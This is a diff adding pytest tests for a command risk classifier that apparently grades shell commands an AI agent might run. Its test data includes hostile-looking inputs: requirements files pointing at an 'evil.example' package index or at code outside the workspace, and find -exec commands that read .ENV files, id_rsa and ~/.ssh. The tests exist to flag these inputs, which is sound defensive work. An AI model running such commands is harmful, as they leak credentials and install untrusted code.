@@ -1,0 +1,178 @@
+"""Requirements files in the workspace that include code or sources from outside it (pip "Requirements File Format"),
+find's -exec payloads that read every file below the workspace's top, docker buildx bake files from outside, JDKs
+registered from outside, nix expressions from outside, and one-bit tests of a credential's content."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from bot.risk import RiskLevel, classify
+from bot.risk.recipes import GivenRecipes, ProjectRecipes
+
+RO = RiskLevel.READ_ONLY
+WW = RiskLevel.WORKSPACE_WRITE
+NET = RiskLevel.NETWORK
+SYS = RiskLevel.SYSTEM
+DES = RiskLevel.DESTRUCTIVE
+
+
+@pytest.fixture
+def workspace(tmp_path: Path) -> Path:
+    root = tmp_path / "proj"
+    (root / "sub").mkdir(parents=True)
+    (root / "pkg").mkdir()
+    return root
+
+
+def graded(command: str, workspace: Path, contained: bool = False) -> tuple[RiskLevel, set[str]]:
+    """The grade on the adapter's side, checked to be the same on the server's from what the adapter sent."""
+    adapter = classify(command, contained=contained, workspace=workspace, recipes=ProjectRecipes(workspace))
+    server = classify(command, contained=contained, workspace=workspace, recipes=GivenRecipes(adapter.recipes))
+    assert server.risk == adapter.risk, (command, adapter.reasons, server.reasons)
+    return adapter.risk, {r.rule for r in adapter.reasons}
+
+
+# -- requirements files that include files, projects and sources ------------------------------------------------------
+_REQUIREMENTS = {
+    "nested.txt": "requests\n-r /tmp/x.txt\n",
+    "constraint.txt": "-c /tmp/c.txt\nflask\n",
+    "attached.txt": "-r/tmp/x.txt\n",
+    "long.txt": "--requirement=../x.txt\n",
+    "editable.txt": "-e /tmp/pkg\n",
+    "path.txt": "/tmp/pkg\n",
+    "fileurl.txt": "pkg @ file:///tmp/pkg\n",
+    "home.txt": "-e ~/pkg\n",
+    "variable.txt": "${PKG_DIR}/pkg\n",
+    "continued.txt": "-e \\\n  /tmp/pkg\n",
+    "through.txt": "-r sub/inner.txt\n",
+    "sub/inner.txt": "-e /tmp/pkg\n",
+    "remote.txt": "-r https://example.com/r.txt\n",
+    "index.txt": "--index-url https://evil.example/simple\nrequests\n",
+    "extra.txt": "--extra-index-url=https://evil.example/simple\n",
+    "links.txt": "-f https://evil.example/wheels\n",
+    "vcs.txt": "git+https://example.com/x.git#egg=x\n",
+    # harmless: names, pins, hashes, a comment, a local project in the workspace, an include in the workspace
+    "plain.txt": "requests==2.32.0 --hash=sha256:abc\n# -r /tmp/x.txt\nflask ; python_version > '3.8'\n--pre\n",
+    "local.txt": "-e ./pkg\n./pkg\n-r plain.txt\n-c sub/ok.txt\n",
+    "sub/ok.txt": "requests<3\n",
+}
+
+
+def _write_requirements(workspace: Path) -> None:
+    for name, text in _REQUIREMENTS.items():
+        (workspace / name).write_text(text)
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "pip install -r nested.txt",
+        "pip install -r constraint.txt",
+        "pip install -r attached.txt",
+        "pip install -r long.txt",
+        "pip install -r editable.txt",
+        "pip install -r path.txt",
+        "pip install -r fileurl.txt",
+        "pip install -r home.txt",
+        "pip install -r variable.txt",
+        "pip install -r continued.txt",
+        "pip install -r through.txt",
+        "pip install -r remote.txt",
+        "pip install -c nested.txt requests",
+        "pip download -r editable.txt",
+        "python -m pip install -r nested.txt",
+        "uv pip install -r nested.txt",
+        "uv pip install --requirements=editable.txt",
+        "uv pip install -rthrough.txt",
+        "uv pip sync editable.txt",
+        "uv add -r nested.txt",
+        "uv run --with-requirements nested.txt python -V",
+    ],
+)
+def test_a_requirements_file_including_code_from_outside_is_destructive(command: str, workspace: Path) -> None:
+    _write_requirements(workspace)
+    risk, rules = graded(command, workspace)
+    assert risk is DES and "project-outside-workspace" in rules, command
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "pip install -r index.txt",
+        "pip install -r extra.txt",
+        "pip install -r links.txt",
+        "pip install -r vcs.txt",
+        "uv pip install -r index.txt",
+    ],
+)
+def test_a_requirements_file_naming_another_source_is_a_chosen_source(command: str, workspace: Path) -> None:
+    _write_requirements(workspace)
+    risk, rules = graded(command, workspace)
+    assert risk is DES and "chosen-source" in rules, command
+    # the sandbox is discarded: contained, the download stays network (kit.chosen_source)
+    assert graded(command, workspace, contained=True)[0] is NET
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "pip install -r plain.txt",
+        "pip install -r local.txt",
+        "pip install -r missing.txt",
+        "cd sub && pip install -r ok.txt",
+        "uv pip install -r plain.txt",
+        "uv pip sync local.txt",
+        "uv add -r plain.txt",
+        "uv run --with-requirements=plain.txt python -V",
+        "uv run --with rich python -V",
+    ],
+)
+def test_requirements_files_naming_packages_keep_their_grade(command: str, workspace: Path) -> None:
+    _write_requirements(workspace)
+    risk, rules = graded(command, workspace)
+    assert risk is NET and not rules & {"project-outside-workspace", "chosen-source"}, (command, rules)
+
+
+# -- find -exec payloads reading every file below the workspace's top ------------------------------------------------
+@pytest.mark.parametrize(
+    "command",
+    [
+        "find . -exec grep -r secret {} +",
+        "find . -exec cat {} \\;",
+        "find . -type f -exec cat {} +",
+        "find -type f -exec cat {} +",
+        "find . -execdir head {} \\;",
+        "find . -ok cat {} \\;",
+        "find . -name config -exec cat {} \\;",
+        "find . -iname '.ENV*' -exec cat {} \\;",
+        "find . -path '*config' -exec cat {} \\;",
+        "find . ! -name '*.py' -exec cat {} \\;",
+        "find . -regex '.*py' -exec cat {} \\;",
+        "cd sub && find .. -exec cat {} +",
+        "find / -name id_rsa -exec cat {} \\;",
+        "find ~/.ssh -exec cat {} +",
+    ],
+)
+def test_find_running_a_reader_on_the_repository_and_env_files_is_a_secret_read(command: str, workspace: Path) -> None:
+    risk, rules = graded(command, workspace)
+    assert risk >= NET and "secret-read" in rules, (command, rules)
+
+
+@pytest.mark.parametrize(
+    ("command", "level"),
+    [
+        ("find . -name '*.py' -exec cat {} \\;", RO),
+        ("find . -path './src/*' -exec cat {} \\;", RO),
+        ("find sub -exec cat {} +", RO),
+        ("find . -exec ls -l {} \\;", RO),
+        ("find . -type f -exec stat {} +", RO),
+        ("find . -name '*.tmp' -exec rm {} +", DES),  # a deletion, graded as rm: no secret read
+    ],
+)
+def test_find_running_commands_that_never_reach_them_keeps_its_grade(
+    command: str, level: RiskLevel, workspace: Path
+) -> None:
+    risk, rules = graded(command, workspace)
+    assert risk is level and "secret-read" not in rules, (command, rules)
